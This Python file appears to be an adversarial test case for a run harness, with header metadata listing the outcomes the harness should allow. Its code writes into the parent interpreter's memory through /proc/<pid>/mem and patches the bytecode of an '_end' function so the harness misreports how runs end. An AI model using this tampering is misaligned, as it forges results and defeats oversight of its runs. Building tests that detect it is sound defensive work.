# row: -
# class: forge
# place: after training
# again: the same person
# allowed: failed, ended_early, killed
# tries: writes into the memory of the interpreter that runs are forked from, so that it lies about how runs end.

import dis
import gc
import os
import sys

gc.unfreeze()
found = [one for one in gc.get_objects() if getattr(one, "__qualname__", "") == "_end" and hasattr(one, "__code__")]
code = found[0].__code__  # a fork has it at the same address
start = code._co_code_adaptive if hasattr(code, "_co_code_adaptive") else code.co_code
op = dis.opmap
# the docstring is returned in place of the exit code
words = bytes([op["RESUME"], 0, op["LOAD_CONST"], 0, op["RETURN_VALUE"], 0])
try:
    with open(f"/proc/{os.getppid()}/mem", "r+b", buffering=0) as memory:
        memory.seek(id(code))
        offset = memory.read(sys.getsizeof(code)).find(start[:8])
        memory.seek(id(code) + offset)
        memory.write(words)
except OSError:
    pass
os._exit(0)
